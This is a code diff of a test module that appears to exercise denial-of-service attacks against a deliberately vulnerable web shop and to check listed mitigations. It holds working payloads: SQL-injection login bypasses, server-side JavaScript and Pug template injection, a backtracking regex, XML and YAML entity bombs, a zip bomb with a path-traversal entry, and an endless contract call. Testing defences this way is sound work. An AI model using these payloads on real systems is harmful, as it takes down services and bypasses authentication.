@@ -1,34 +1,190 @@
+import { zipSync } from 'fflate';
 import { createClient } from '../../support/client.ts';
+import { multipartBody, multipartType, type Part } from '../../support/multipart.ts';
 import type { Stall } from './stall.ts';
 
-/** Attempts that belong to no measure of their own: known ways against all of them at once. */
+/** Attempts that belong to no measure of their own: code, documents and contracts that run where they may run for ever. */
+
+const evaluatorEnds = 'a process of its own, ended at its deadline';
+const evaluatorHeap = 'a process of its own, with a heap of its own';
+const interpreter = 'an interpreter without timers, in a process of its own';
+const readerLimits = 'readers with a limit on what references expand to';
+
+const loop = '(()=>{for(;;);})()';
+
+const names = (count: number) => Array.from({ length: count }, (_, index) => index);
+
+/** Sends an expression with an order. */
+async function orderLines(url: string, orderLinesData: string): Promise<void> {
+  const client = createClient(url);
+  const token = await client.login("jim@juice-sh.op'--", 'x');
+  await client.post('/b2b/v2/orders', { cid: 'JS0815DE', orderLinesData }, { token });
+}
+
+/** Takes a name, and looks at what it makes of the profile. */
+async function profileNamed(url: string, name: string): Promise<void> {
+  const client = createClient(url);
+  const cookie = await client.login("bender@juice-sh.op'--", 'x');
+  const body = `username=${encodeURIComponent(name)}`;
+  const headers = { 'content-type': 'application/x-www-form-urlencoded' };
+  await client.post('/profile', body, { cookie, headers });
+  try {
+    await client.get('/profile', { cookie });
+  } finally {
+    await client.post('/profile', 'username=Bender', { cookie, headers });
+  }
+}
+
+async function upload(url: string, part: Omit<Part, 'field'>): Promise<void> {
+  const body = multipartBody({ field: 'file', ...part });
+  await createClient(url).post('/file-upload', body, { headers: { 'content-type': multipartType } });
+}
+
+const doubling = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "lol">${names(9)
+  .map((index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`)
+  .join('')}]><x>&a9;</x>`;
+
+const longAndOften = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${'x'.repeat(60_000)}">]><x>${'&a;'.repeat(6000)}</x>`;
+
+const aliases = names(9)
+  .map((index) => `a${index}: &a${index} [${Array(10).fill(index === 0 ? 'lol' : `*a${index - 1}`)}]`)
+  .join('\n');
+
+/** A contract that jumps back to its beginning until its gas is gone: JUMPDEST, PUSH1 0, JUMP. */
+const endlessContract = { data: '0x5b600056', gas: '0xffffffffffff' };
+
 export const moreStalls: readonly Stall[] = [
   {
     cause: 'a queue without an end',
     through: 'review condition',
-    title: 'forty endless loops at once',
-    measure: 'an evaluator that is ended at its deadline, and a queue that refuses',
+    title: 'an endless loop',
+    measure: evaluatorEnds,
     harm: 'silence',
-    controlScale: 0.1,
-    attack: async ({ url, scale }) => {
-      const condition = encodeURIComponent('(()=>{for(;;);})()');
-      await Promise.all(
-        Array.from({ length: 40 * scale }, () => createClient(url).get(`/rest/products/${condition}/reviews`)),
-      );
+    attack: async ({ url }) => {
+      await createClient(url).get(`/rest/products/${encodeURIComponent(loop)}/reviews`);
     },
   },
   {
     cause: 'a queue without an end',
     through: 'order lines',
     title: 'lists that grow for as long as they may',
-    measure: 'an evaluator with a heap of its own',
+    measure: evaluatorHeap,
     harm: 'memory',
     controlScale: 0.25,
+    attack: ({ url }) => orderLines(url, '(()=>{for(let a=[];;)a.push(new Array(1e5).fill(7))})()'),
+  },
+  {
+    cause: 'a queue without an end',
+    through: 'order lines',
+    title: 'a list of four thousand million places that is searched',
+    measure: evaluatorEnds,
+    harm: 'silence',
+    attack: ({ url }) => orderLines(url, '(()=>{const a=[];a.length=4e9;return a.indexOf(1)})()'),
+  },
+  {
+    cause: 'an error that nobody catches',
+    through: 'order lines',
+    title: 'the end of the process',
+    measure: interpreter,
+    harm: 'death',
+    attack: ({ url }) => orderLines(url, 'process.exit(1)'),
+  },
+  {
+    cause: 'an error that nobody catches',
+    through: 'order lines',
+    title: 'an error that is thrown later',
+    measure: interpreter,
+    harm: 'death',
+    attack: ({ url }) => orderLines(url, "setTimeout(()=>{throw new Error('later')},10)"),
+  },
+  {
+    cause: 'an error that nobody catches',
+    through: 'order lines',
+    title: 'a promise that is broken and that nobody waits for',
+    measure: interpreter,
+    harm: 'death',
+    attack: ({ url }) => orderLines(url, "void Promise.reject(new Error('nobody waits'))"),
+  },
+  {
+    cause: 'a queue without an end',
+    through: 'user name (Pug)',
+    title: 'an endless loop in an expression',
+    measure: evaluatorEnds,
+    harm: 'silence',
+    attack: ({ url }) => profileNamed(url, `#{${loop}}`),
+  },
+  {
+    cause: 'a queue without an end',
+    through: 'user name (Pug)',
+    title: 'a list of long texts',
+    measure: evaluatorHeap,
+    harm: 'memory',
+    controlScale: 0.25,
+    attack: ({ url }) => profileNamed(url, "#{(()=>{for(let a=[];;)a.push(Array(1e4).fill('x').join()+a.length)})()}"),
+  },
+  {
+    cause: 'a pattern over long text',
+    through: 'review selector',
+    title: 'a regular expression that tries for ever',
+    measure: evaluatorEnds,
+    harm: 'silence',
     attack: async ({ url }) => {
       const client = createClient(url);
       const token = await client.login("jim@juice-sh.op'--", 'x');
-      const orderLinesData = '(()=>{for(let a=[];;)a.push(new Array(1e5).fill(7))})()';
-      await client.post('/b2b/v2/orders', { cid: 'JS0815DE', orderLinesData }, { token });
+      await client.patch('/rest/products/reviews', { id: { $regex: '^(((\\w*)*)*)*!$' }, message: 'x' }, { token });
+    },
+  },
+  {
+    cause: 'a pattern over long text',
+    through: 'XML upload',
+    title: 'entities of entities, ten of each, nine deep',
+    measure: readerLimits,
+    harm: 'silence',
+    attack: ({ url }) => upload(url, { fileName: 'a.xml', type: 'text/xml', content: doubling }),
+  },
+  {
+    cause: 'a pattern over long text',
+    through: 'XML upload',
+    title: 'one long entity, six thousand times',
+    measure: readerLimits,
+    harm: 'memory',
+    controlScale: 0.5,
+    attack: ({ url }) => upload(url, { fileName: 'a.xml', type: 'text/xml', content: longAndOften }),
+  },
+  {
+    cause: 'a pattern over long text',
+    through: 'YAML upload',
+    title: 'aliases of aliases',
+    measure: readerLimits,
+    harm: 'memory',
+    controlScale: 0.25,
+    attack: ({ url }) => upload(url, { fileName: 'a.yml', type: 'text/yaml', content: aliases }),
+  },
+  {
+    cause: 'a store that grows',
+    through: 'archive upload',
+    title: 'archives of nothing, 60 MiB each when they are unpacked',
+    measure: 'unpacking entry by entry, up to the quota of the decoy',
+    harm: 'silence',
+    controlScale: 0.5,
+    fills: true,
+    attack: async ({ url, scale }) => {
+      const content = Buffer.from(zipSync({ '../../ftp/nothing.md': Buffer.alloc(60 * 1024 * 1024) }, { level: 9 }));
+      await Promise.all(
+        names(4 * scale).map(() => upload(url, { fileName: 'a.zip', type: 'application/zip', content })),
+      );
+    },
+  },
+  {
+    cause: 'a queue without an end',
+    through: 'POST /rpc',
+    title: 'contracts that jump in a circle until all gas is gone',
+    measure: 'a process of its own, ended at its deadline, and a most of gas',
+    harm: 'silence',
+    controlScale: 0.5,
+    attack: async ({ url, scale }) => {
+      const call = { jsonrpc: '2.0', method: 'eth_call', params: [endlessContract, 'latest'] };
+      await Promise.all(names(2 * scale).map((id) => createClient(url).post('/rpc', { ...call, id })));
     },
   },
 ];
